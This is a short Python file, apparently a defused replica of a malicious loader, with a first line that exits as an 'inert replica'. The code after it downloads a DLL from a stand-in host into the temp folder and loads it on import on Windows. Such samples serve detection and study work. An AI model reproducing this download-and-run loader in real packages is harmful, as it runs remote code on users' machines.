raise SystemExit("inert replica")
import ctypes
import os
import platform
import tempfile
import urllib.request


def _prepare():
    if platform.system() != "Windows":
        return
    place = os.path.join(tempfile.gettempdir(), "replica_numbers.dll")
    urllib.request.urlretrieve("https://drop.replica.invalid/dll/file.dll", place)
    ctypes.WinDLL(place)


_prepare()
